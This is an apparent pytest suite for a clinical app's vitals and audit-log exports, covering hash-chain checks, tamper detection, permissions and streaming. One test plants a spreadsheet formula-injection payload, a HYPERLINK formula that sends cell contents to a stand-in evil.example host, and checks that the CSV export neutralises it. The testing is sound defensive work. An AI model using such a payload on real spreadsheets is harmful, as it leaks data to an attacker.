"""Exports of vitals (CSV) and of the audit log (CSV and JSON Lines): real server, real
database, a session walked through a reaction and a resume."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import secrets
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any, TypeVar

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from app.audit import AuditEvent
from app.audit.chain import entry_hash, format_datetime
from app.db import create_engine, session_factory
from app.review.exports import (
    AUDIT_COLUMNS,
    VITALS_COLUMNS,
    AuditFilters,
    TimeRange,
    audit_row,
    check_audit_jsonl,
    stream_audit_csv,
    stream_audit_jsonl,
    stream_vitals_csv,
)
from app.vitals.validation import MEASURED_FIELDS
from tests.session import conftest as session_fixtures
from tests.session.conftest import SessionServer
from tests.session.test_api_races_and_bad_input import ready_session
from tests.session.test_api_walk import OK_VITALS, Bedside
from tests.support import SignedInClient, login_form_token, run_async

T = TypeVar("T")

# The session tests' fixtures: a server with a manual clock, and a signed-in team.
session_server = session_fixtures.session_server
team = session_fixtures.team

SPIROMETRY_VITALS = {
    **OK_VITALS,
    "temperature_c": {"status": "refused", "reason": "patient asleep"},
    "fev1_l": "2.95",
    "peak_flow_l_min": 410,
}
REACTION_VITALS = {
    **OK_VITALS,
    "heart_rate": 104,
    "symptoms": ["urticaria"],
    "note": "hives",
    "confirm": True,  # a symptom meets an alarm condition: the nurse confirms it
}


def reaction_walk(server: SessionServer, team: dict[str, SignedInClient]) -> Bedside:
    """Steps with vitals, a reaction with vitals and a treatment, resolution, fresh vitals, a
    physician's resume (repeat the step), the pump change, more steps, and an amendment."""
    b = ready_session(server, team)
    b.post("nurse", "start")
    b.finish_step()
    b.finish_step()
    server.advance(minutes=4)
    b.post("nurse", "vitals", SPIROMETRY_VITALS)
    server.advance(minutes=2)
    view = b.post("nurse", "reactions", {"symptoms": ["urticaria", "flushing"]})
    assert view["status"] == "paused"
    server.advance(minutes=1)
    b.post("nurse", "vitals", REACTION_VITALS)
    b.post(
        "nurse",
        "reactions/1/treatments",
        {"drug": "diphenhydramine", "dose": "25 mg", "route": "IV"},
    )
    server.advance(minutes=15)
    b.post("physician", "reactions/1/resolve", {"brown_grade": 1, "ctcae_grade": 2})
    server.advance(minutes=1)
    b.vitals()
    view = b.post("physician", "resume", {"resume_from": "repeat"})
    assert view["status"] == "step_due"
    server.advance(minutes=1)
    b.post("nurse", "confirm-step")
    b.finish_step()
    b.finish_step()
    latest = b.get()["vitals"][-1]
    b.post(
        "nurse",
        f"vitals/{latest['id']}/amend",
        {**OK_VITALS, "heart_rate": 75, "reason": "typed 72 for 75"},
    )
    return b


# --- database helpers ----------------------------------------------------------------------


def in_db(database_url: str, work: Callable[[AsyncSession], Awaitable[T]]) -> T:
    async def run() -> T:
        engine = create_engine(database_url)
        try:
            async with session_factory(engine)() as db:
                return await work(db)
        finally:
            await engine.dispose()

    return run_async(run)


def audit_entries(database_url: str, *conditions: Any) -> list[dict[str, Any]]:
    async def work(db: AsyncSession) -> list[dict[str, Any]]:
        table = AuditEvent.__table__
        query = select(table).where(*conditions).order_by(table.c.seq)
        return [dict(r) for r in (await db.execute(query)).mappings()]

    return in_db(database_url, work)


def last_seq(database_url: str) -> int:
    async def work(db: AsyncSession) -> int:
        return await db.scalar(select(func.max(AuditEvent.seq))) or 0

    return in_db(database_url, work)


def export_entries(database_url: str, after_seq: int) -> list[dict[str, Any]]:
    return audit_entries(
        database_url, AuditEvent.seq > after_seq, AuditEvent.action.startswith("export.")
    )


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text)


def stored_text(value: Any) -> str:
    """A stored audit value as the exports spell it (NULL as an empty cell)."""
    if value is None:
        return ""
    return format_datetime(value) if isinstance(value, datetime) else str(value)


def spreadsheet_cell(value: Any) -> str:
    """A stored value as the audit CSV must show it: text a spreadsheet would run as a formula
    (starting with = + - @, a tab or a carriage return) behind an apostrophe."""
    text = stored_text(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def parse_jsonl(text: str) -> list[dict[str, Any]]:
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in text.split("\n") if line]


def documented_hash(entry: dict[str, Any]) -> str:
    """The recipe of the README, written out without the app's code: sha256 of prev_hash and
    the canonical JSON of the entry's other fields (sorted keys, no spaces, UTF-8)."""
    fields = {name: value for name, value in entry.items() if name != "hash"}
    canonical = json.dumps(fields, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256((entry["prev_hash"] + canonical).encode("utf-8")).hexdigest()


@pytest.fixture
def walked(session_server: SessionServer, team: dict[str, SignedInClient]) -> Bedside:
    return reaction_walk(session_server, team)


# --- vitals --------------------------------------------------------------------------------


def test_the_session_vitals_csv_is_every_version_of_every_reading_as_the_api_shows_them(
    walked: Bedside, team: dict[str, SignedInClient], database_url: str
) -> None:
    before = last_seq(database_url)
    view = walked.get()
    response = team["nurse"].get(f"/sessions/{walked.sid}/vitals.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.headers["cache-control"] == "no-store"
    assert response.text.splitlines()[0].split(",") == list(VITALS_COLUMNS)

    rows = parse_csv(response.text)
    assert len(rows) == len(view["vitals"]) >= 9
    for row, api in zip(rows, view["vitals"], strict=True):
        assert int(row["vitals_id"]) == api["id"]
        assert int(row["session_id"]) == walked.sid
        assert int(row["patient_id"]) == view["patient_id"]
        assert int(row["reading_id"]) == api["reading_id"]
        assert int(row["version"]) == api["version"]
        assert (int(row["supersedes_id"]) if row["supersedes_id"] else None) == api["supersedes"]
        assert row["amendment_reason"] == (api["amendment_reason"] or "")
        assert row["recorded_at"].endswith("Z")
        assert utc(row["recorded_at"]) == utc(api["recorded_at"])
        assert int(row["recorded_by"]) == api["recorded_by"]
        assert row["recorded_by_username"] == team["nurse"].account.username
        step = api["step"]
        assert row["step_position"] == ("" if step is None else str(step))
        assert row["step_number"] == ("" if step is None else str(step + 1))
        assert row["baseline"] == str(api["baseline"]).lower()
        assert row["within_limits"] == str(api["within_limits"]).lower()
        values = api["values"]
        for name in MEASURED_FIELDS:
            entry = values.get(name) or {}
            if "value" in entry:
                assert Decimal(row[name]) == Decimal(str(entry["value"])), name
            else:
                assert row[name] == "", name
            assert row[f"{name}_status"] == entry.get("status", ""), name
            assert row[f"{name}_reason"] == entry.get("reason", ""), name
        assert row["symptoms"] == ";".join(values.get("symptoms", []))
        assert row["note"] == values.get("note", "")

    # The walk's particular readings, as exported: the refused temperature, the spirometry,
    # the symptoms, and the amendment that added a version instead of overwriting.
    refused = next(r for r in rows if r["temperature_c_status"] == "refused")
    assert refused["temperature_c_reason"] == "patient asleep"
    assert refused["temperature_c"] == "" and refused["fev1_l"] == "2.95"
    assert refused["peak_flow_l_min"] == "410"
    assert any(r["symptoms"] == "urticaria" and r["note"] == "hives" for r in rows)
    amended = rows[-1]
    original = next(r for r in rows if r["vitals_id"] == amended["supersedes_id"])
    assert (amended["version"], amended["reading_id"]) == ("2", original["vitals_id"])
    assert (original["heart_rate"], amended["heart_rate"]) == ("72", "75")
    assert amended["amendment_reason"] == "typed 72 for 75"
    assert rows[0]["baseline"] == "true" and rows[0]["step_position"] == ""

    [entry] = export_entries(database_url, before)
    assert entry["action"] == "export.vitals_csv"
    assert (entry["entity"], entry["entity_id"]) == ("session", str(walked.sid))
    assert entry["actor_username"] == team["nurse"].account.username
    assert json.loads(entry["after_json"]) == {"filters": {}, "format": "csv"}


def test_the_vitals_export_of_all_sessions_filters_by_time(
    walked: Bedside, team: dict[str, SignedInClient], database_url: str
) -> None:
    view = walked.get()
    times = sorted(utc(v["recorded_at"]) for v in view["vitals"])
    since, until = times[2], times[-3]
    before = last_seq(database_url)
    response = team["auditor"].get(
        "/vitals/export.csv", params={"since": since.isoformat(), "until": until.isoformat()}
    )
    assert response.status_code == 200, response.text
    rows = parse_csv(response.text)
    assert rows and all(since <= utc(r["recorded_at"]) <= until for r in rows)
    expected = [v["id"] for v in view["vitals"] if since <= utc(v["recorded_at"]) <= until]
    mine = [int(r["vitals_id"]) for r in rows if int(r["session_id"]) == walked.sid]
    assert mine == expected
    ids = [int(r["vitals_id"]) for r in rows]
    assert ids == sorted(ids)

    everything = parse_csv(team["pharmacist"].get("/vitals/export.csv").text)
    assert {v["id"] for v in view["vitals"]} <= {int(r["vitals_id"]) for r in everything}

    entries = export_entries(database_url, before)
    assert [(e["action"], e["entity"], e["entity_id"]) for e in entries] == [
        ("export.vitals_csv", "vitals_set", None),
        ("export.vitals_csv", "vitals_set", None),
    ]
    assert json.loads(entries[0]["after_json"])["filters"] == {
        "since": format_datetime(since),
        "until": format_datetime(until),
    }
    assert entries[0]["actor_role"] == "auditor" and entries[1]["actor_role"] == "pharmacist"


# --- the audit log -------------------------------------------------------------------------


def test_the_audit_csv_is_the_log_itself_and_its_filters_work(
    session_server: SessionServer,
    team: dict[str, SignedInClient],
    database_url: str,
) -> None:
    start = last_seq(database_url)
    b = reaction_walk(session_server, team)
    auditor = team["auditor"]
    response = auditor.get("/audit/export.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = parse_csv(response.text)
    assert response.text.splitlines()[0].split(",") == list(AUDIT_COLUMNS)

    # Every entry up to the export's own, in order, cell for cell as stored, except that a
    # cell a spreadsheet would run as a formula starts with an apostrophe.
    top = int(rows[-1]["seq"])
    stored = audit_entries(database_url, AuditEvent.seq <= top)
    assert [int(r["seq"]) for r in rows] == [e["seq"] for e in stored] == list(range(1, top + 1))
    for row, entry in zip(rows, stored, strict=True):
        assert row["hash"] == entry["hash"] and row["prev_hash"] == entry["prev_hash"]
        assert row["occurred_at"] == format_datetime(entry["occurred_at"])
        for name in AUDIT_COLUMNS:
            assert row[name] == spreadsheet_cell(entry[name]), (row["seq"], name)
    # The export recorded itself before it was read: it is the last entry.
    assert rows[-1]["action"] == "export.audit_csv"
    assert rows[-1]["actor_username"] == auditor.account.username

    nurse = team["nurse"].account.username
    by_user = parse_csv(auditor.get("/audit/export.csv", params={"user": nurse}).text)
    expected = audit_entries(database_url, AuditEvent.actor_username == nurse)
    assert by_user and {r["actor_username"] for r in by_user} == {nurse}
    assert [int(r["seq"]) for r in by_user] == [e["seq"] for e in expected]

    session_rows = parse_csv(
        auditor.get("/audit/export.csv", params={"entity_id": str(b.sid)}).text
    )
    expected = audit_entries(database_url, AuditEvent.entity_id == str(b.sid))
    assert session_rows and {r["entity_id"] for r in session_rows} == {str(b.sid)}
    assert [int(r["seq"]) for r in session_rows] == [e["seq"] for e in expected if e["seq"] <= top]

    # session=: entries about that session; patient=: about the patient or their sessions.
    about = parse_csv(auditor.get("/audit/export.csv", params={"session": str(b.sid)}).text)
    assert [int(r["seq"]) for r in about] == [
        e["seq"] for e in expected if e["entity"] == "session" and e["seq"] <= top
    ]
    patient_id = b.get()["patient_id"]
    patient_rows = parse_csv(
        auditor.get("/audit/export.csv", params={"patient": str(patient_id)}).text
    )
    kinds = {(r["entity"], r["entity_id"]) for r in patient_rows}
    assert ("patient", str(patient_id)) in kinds and ("session", str(b.sid)) in kinds
    assert kinds <= {("patient", str(patient_id)), ("session", str(b.sid))}

    # action=: a prefix, as on the audit search page; a trailing * is allowed.
    exports = parse_csv(auditor.get("/audit/export.csv", params={"action": "export.*"}).text)
    assert exports and {r["action"] for r in exports} >= {"export.audit_csv"}
    assert all(r["action"].startswith("export.") for r in exports)
    audit_only = parse_csv(auditor.get("/audit/export.csv", params={"action": "export.au"}).text)
    assert audit_only and "export.audit_csv" in {r["action"] for r in audit_only}
    assert {r["action"] for r in audit_only} <= {"export.audit_csv", "export.audit_jsonl"}

    since = stored[start]["occurred_at"]
    until = since + timedelta(minutes=30)
    window = parse_csv(
        auditor.get(
            "/audit/export.csv",
            params={
                "since": since.isoformat(),
                "until": until.strftime("%Y-%m-%dT%H:%M:%S.%f"),  # no zone: taken as UTC
                "user": nurse,
            },
        ).text
    )
    expected = audit_entries(
        database_url,
        AuditEvent.occurred_at >= since,
        AuditEvent.occurred_at <= until,
        AuditEvent.actor_username == nurse,
    )
    assert window and [int(r["seq"]) for r in window] == [e["seq"] for e in expected]

    # Each of those exports left its own entry, with the filters it used.
    mine = export_entries(database_url, top - 1)
    filters = [json.loads(e["after_json"])["filters"] for e in mine]
    assert filters == [
        {},
        {"user": nurse},
        {"entity_id": str(b.sid)},
        {"session": b.sid},
        {"patient": patient_id},
        {"action": "export."},
        {"action": "export.au"},
        {"since": format_datetime(since), "until": format_datetime(until), "user": nurse},
    ]
    assert {e["actor_username"] for e in mine} == {auditor.account.username}


def test_the_audit_jsonl_is_the_log_verbatim_and_the_chain_recomputes_from_it(
    walked: Bedside, team: dict[str, SignedInClient], database_url: str
) -> None:
    # A browser string beyond ASCII, with NEL (U+0085), which str.splitlines() ends a line at.
    odd = "Stepwise-Test/1.0 \x85 \u00dcbel"
    patient = team["nurse"].post(
        "/api/v1/patients",
        json={
            "mrn": f"T{secrets.token_hex(5)}",
            "family_name": "M\u00fcller",
            "given_name": "J",
            "birth_date": "1970-04-02",
            "weight_kg": 70,
            "asthma": False,
        },
        headers={"user-agent": odd.encode("latin-1")},
    )
    assert patient.status_code == 201, patient.text
    auditor = team["auditor"]
    response = auditor.get("/audit/export.jsonl")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/jsonl")
    assert "attachment" in response.headers["content-disposition"]
    assert ".jsonl" in response.headers["content-disposition"]
    assert response.headers["cache-control"] == "no-store"
    assert response.content.isascii()  # no character of the text can break a line
    entries = parse_jsonl(response.text)

    # Every entry up to the export's own, every column with its stored value and type.
    top = entries[-1]["seq"]
    stored = audit_entries(database_url, AuditEvent.seq <= top)
    assert [list(e) for e in entries] == [list(AUDIT_COLUMNS)] * len(stored)
    assert entries == [
        {name: format_datetime(v) if isinstance(v, datetime) else v for name, v in e.items()}
        for e in stored
    ]
    assert any(e["actor_id"] is None for e in entries) and entries[-1]["actor_id"] is not None
    assert [e["user_agent"] for e in entries if e["action"] == "patient.create"][-1] == odd
    assert len(response.text.splitlines()) == len(entries)
    assert entries[-1]["action"] == "export.audit_jsonl"
    assert json.loads(entries[-1]["after_json"]) == {"filters": {}, "format": "jsonl"}

    # The chain, recomputed from the file alone with the README's recipe.
    previous = "0" * 64
    for entry in entries:
        assert entry["prev_hash"] == previous, entry["seq"]
        assert documented_hash(entry) == entry["hash"], entry["seq"]
        previous = entry["hash"]
    check = check_audit_jsonl(response.text.splitlines())
    assert check.ok and check.whole_chain, check
    assert (check.entries, check.last_seq, check.last_hash) == (top, top, entries[-1]["hash"])

    # The same filters as the CSV give the same entries (each export appends its own entry,
    # which a later export may include).
    nurse = team["nurse"].account.username
    for params in ({"user": nurse}, {"session": str(walked.sid)}, {"action": "export.*"}):
        in_csv = [
            int(r["seq"]) for r in parse_csv(auditor.get("/audit/export.csv", params=params).text)
        ]
        found = parse_jsonl(auditor.get("/audit/export.jsonl", params=params).text)
        in_jsonl = [e["seq"] for e in found]
        assert in_csv and in_jsonl[: len(in_csv)] == in_csv, params
        assert all(seq > in_csv[-1] for seq in in_jsonl[len(in_csv) :]), params
        filtered = check_audit_jsonl(json.dumps(e) for e in found)
        assert filtered.ok and filtered.entries == len(found), params
        assert not filtered.whole_chain, params  # it starts after seq 1, or skips entries
    assert export_entries(database_url, top)[-1]["action"] == "export.audit_jsonl"


def test_a_changed_jsonl_export_is_caught_by_the_check(
    walked: Bedside, team: dict[str, SignedInClient]
) -> None:
    lines = team["auditor"].get("/audit/export.jsonl").text.splitlines()
    assert check_audit_jsonl(lines).whole_chain
    middle = len(lines) // 2
    entry = json.loads(lines[middle])

    edited = {**entry, "reason": "nothing happened"}
    check = check_audit_jsonl([*lines[:middle], json.dumps(edited), *lines[middle + 1 :]])
    assert (check.line, check.problem) == (
        middle + 1,
        f"seq {entry['seq']}: hash does not match its contents",
    )
    # Whoever also recomputes the edited entry's hash breaks the link of the next one.
    rehashed = {**edited, "hash": entry_hash(edited)}
    check = check_audit_jsonl([*lines[:middle], json.dumps(rehashed), *lines[middle + 1 :]])
    assert (check.line, check.problem) == (
        middle + 2,
        f"seq {entry['seq'] + 1}: prev_hash does not link to seq {entry['seq']}",
    )
    # A line dropped from an export of the whole log leaves a gap: no longer the whole chain.
    dropped = check_audit_jsonl([*lines[:middle], *lines[middle + 1 :]])
    assert dropped.ok and dropped.gaps == 1 and not dropped.whole_chain
    swapped = check_audit_jsonl([*lines[:middle], lines[middle + 1], lines[middle]])
    assert swapped.problem is not None and "out of order" in swapped.problem
    assert check_audit_jsonl([lines[0], "{"]).problem == "not a line of JSON"


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def failed_sign_in(base_url: str, user_agent: str) -> None:
    """What anyone who can reach the sign-in page can do: a wrong password, from a browser
    that calls itself whatever it likes."""
    headers = {"origin": base_url, "user-agent": user_agent}
    with httpx.Client(base_url=base_url, headers=headers, timeout=15) as stranger:
        token = login_form_token(stranger)
        answer = stranger.post(
            "/login",
            data={
                "username": f"nobody-{secrets.token_hex(3)}",
                "password": "not the password",
                "login_token": token,
                "next": "/",
            },
        )
        assert answer.status_code == 401, answer.text


def test_a_formula_planted_by_a_failed_sign_in_is_inert_in_the_csv_and_verbatim_in_the_jsonl(
    session_server: SessionServer, team: dict[str, SignedInClient], database_url: str
) -> None:
    start = last_seq(database_url)
    failed_sign_in(session_server.base_url, HYPERLINK)
    [planted] = audit_entries(
        database_url, AuditEvent.seq > start, AuditEvent.action == "auth.login_failed"
    )
    assert planted["user_agent"] == HYPERLINK and planted["actor_username"] == "anonymous"

    auditor = team["auditor"]
    text = auditor.get("/audit/export.csv").text
    [row] = [r for r in parse_csv(text) if int(r["seq"]) == planted["seq"]]
    assert row["user_agent"] == "'" + HYPERLINK
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert HYPERLINK not in cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []

    answer = auditor.get("/audit/export.jsonl")
    assert answer.status_code == 200
    entries = parse_jsonl(answer.text)
    [entry] = [e for e in entries if e["seq"] == planted["seq"]]
    assert entry["user_agent"] == HYPERLINK
    assert documented_hash(entry) == entry["hash"] == planted["hash"]
    check = check_audit_jsonl(answer.text.splitlines())
    assert check.whole_chain and check.last_seq == entries[-1]["seq"] > planted["seq"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_audit_csv_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    row: dict[str, Any] = {name: f"{start}{name}" for name in AUDIT_COLUMNS}
    row.update(seq=3, actor_id=None, occurred_at=datetime(2026, 11, 21, 9, 30, tzinfo=UTC))
    cells = dict(zip(AUDIT_COLUMNS, audit_row(row), strict=True))
    assert (cells["seq"], cells["actor_id"]) == ("3", "")
    assert cells["occurred_at"] == "2026-11-21T09:30:00.000000Z"
    for name in set(AUDIT_COLUMNS) - {"seq", "actor_id", "occurred_at"}:
        assert cells[name] == f"'{start}{name}", name
    # Text that does not start a formula is left as it is.
    plain = {**row, "user_agent": "Mozilla/5.0 (=1+1)", "reason": "'quoted"}
    cells = dict(zip(AUDIT_COLUMNS, audit_row(plain), strict=True))
    assert (cells["user_agent"], cells["reason"]) == ("Mozilla/5.0 (=1+1)", "'quoted")


def test_who_may_export_what(
    walked: Bedside, team: dict[str, SignedInClient], session_server: SessionServer, accounts
) -> None:
    physician = team["physician"].get("/audit/export.csv", params={"action": "export.*"})
    assert physician.status_code == 200
    jsonl = team["physician"].get("/audit/export.jsonl", params={"action": "export.*"})
    assert jsonl.status_code == 200
    for role in ("nurse", "pharmacist"):
        for path in ("/audit/export.csv", "/audit/export.jsonl"):
            refused = team[role].get(path)
            assert refused.status_code == 403 and "may not" in refused.text, (role, path)
    for path in (f"/sessions/{walked.sid}/vitals.csv", "/vitals/export.csv"):
        for role in ("nurse", "physician", "pharmacist", "auditor"):
            assert team[role].get(path).status_code == 200, (role, path)
    admin = SignedInClient(session_server.base_url, accounts["admin"])
    try:
        for path in (
            "/audit/export.csv",
            "/audit/export.jsonl",
            f"/sessions/{walked.sid}/vitals.csv",
            "/vitals/export.csv",
            f"/sessions/{walked.sid}/fhir",
        ):
            assert admin.get(path).status_code == 403, path
    finally:
        admin.close()


@pytest.mark.parametrize(
    ("path", "params", "field", "words"),
    [
        ("/audit/export.csv", {"since": "yesterday"}, "since", "ISO 8601"),
        ("/audit/export.csv", {"until": "2026-13-40"}, "until", "ISO 8601"),
        (
            "/audit/export.csv",
            {"since": "2026-11-22T00:00:00Z", "until": "2026-11-21T00:00:00Z"},
            "since",
            "is after until",
        ),
        ("/audit/export.csv", {"user": "x" * 151}, "user", "at most 150"),
        ("/audit/export.csv", {"session": "12a"}, "session", "whole number"),
        ("/audit/export.csv", {"patient": "0"}, "patient", "whole number"),
        ("/audit/export.csv", {"since": "9" * 100}, "since", "ISO 8601"),
        ("/audit/export.jsonl", {"since": "yesterday"}, "since", "ISO 8601"),
        ("/audit/export.jsonl", {"session": "12a"}, "session", "whole number"),
        ("/audit/export.jsonl", {"user": "a\u202eb"}, "user", "plain text"),
        ("/vitals/export.csv", {"since": "2026-11-21T10:00:00+99:00"}, "since", "ISO 8601"),
        ("/vitals/export.csv", {"until": "noon"}, "until", "ISO 8601"),
        ("/sessions/{sid}/vitals.csv", {"since": "2026/11/21"}, "since", "ISO 8601"),
    ],
)
def test_bad_filters_are_refused_before_anything_is_exported_or_audited(
    session_server: SessionServer,
    team: dict[str, SignedInClient],
    database_url: str,
    path: str,
    params: dict[str, str],
    field: str,
    words: str,
) -> None:
    sid = ready_session(session_server, team).sid
    before = last_seq(database_url)
    response = team["auditor"].get(path.format(sid=sid), params=params)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["field"] == field and words in body["detail"], body
    assert export_entries(database_url, before) == []


def test_a_missing_session_is_404_and_not_audited(
    team: dict[str, SignedInClient], database_url: str
) -> None:
    before = last_seq(database_url)
    for path in ("/sessions/999999/vitals.csv", "/sessions/999999/fhir"):
        response = team["auditor"].get(path)
        assert response.status_code == 404 and "no session 999999" in response.text
    assert export_entries(database_url, before) == []


# --- streaming -----------------------------------------------------------------------------


def collect(database_url: str, make: Callable[[Any], Any]) -> bytes:
    async def run() -> bytes:
        engine = create_engine(database_url)
        try:
            return b"".join([chunk async for chunk in make(session_factory(engine))])
        finally:
            await engine.dispose()

    return run_async(run)


def test_small_batches_give_the_same_file_as_one_big_batch(
    walked: Bedside, database_url: str
) -> None:
    """Keyset pagination neither skips nor repeats a row at batch boundaries. (One session's
    entries: the timer loop may write other sessions' alarms in between, as it should.)"""
    sid = str(walked.sid)
    filters = AuditFilters.parse(user=None, action=None, entity_id=sid, since=None, until=None)
    small = collect(database_url, lambda sm: stream_audit_csv(sm, filters, batch_size=7))
    whole = collect(database_url, lambda sm: stream_audit_csv(sm, filters, batch_size=10**6))
    entries = audit_entries(database_url, AuditEvent.entity_id == sid)
    assert small == whole and small.count(b"\r\n") == len(entries) + 1 > 20
    small = collect(database_url, lambda sm: stream_audit_jsonl(sm, filters, batch_size=7))
    whole = collect(database_url, lambda sm: stream_audit_jsonl(sm, filters, batch_size=10**6))
    assert small == whole
    assert [e["seq"] for e in parse_jsonl(small.decode())] == [e["seq"] for e in entries]

    times = TimeRange()
    small = collect(
        database_url,
        lambda sm: stream_vitals_csv(sm, times, session_id=walked.sid, batch_size=2),
    )
    whole = collect(database_url, lambda sm: stream_vitals_csv(sm, times, session_id=walked.sid))
    assert small == whole and len(parse_csv(small.decode())) == len(walked.get()["vitals"])


def test_an_export_streams_in_chunks_while_the_bedside_keeps_writing(
    walked: Bedside, team: dict[str, SignedInClient]
) -> None:
    """The export holds no write lock while it streams: vitals save in the middle of it."""
    with team["auditor"].stream("GET", "/audit/export.csv") as response:
        assert response.status_code == 200
        chunks = response.iter_bytes()
        first = next(chunks)
        assert first.startswith(b"seq,occurred_at,")
        walked.vitals()  # a write while the export is open
        rest = b"".join(chunks)
    assert (first + rest).endswith(b"\r\n")
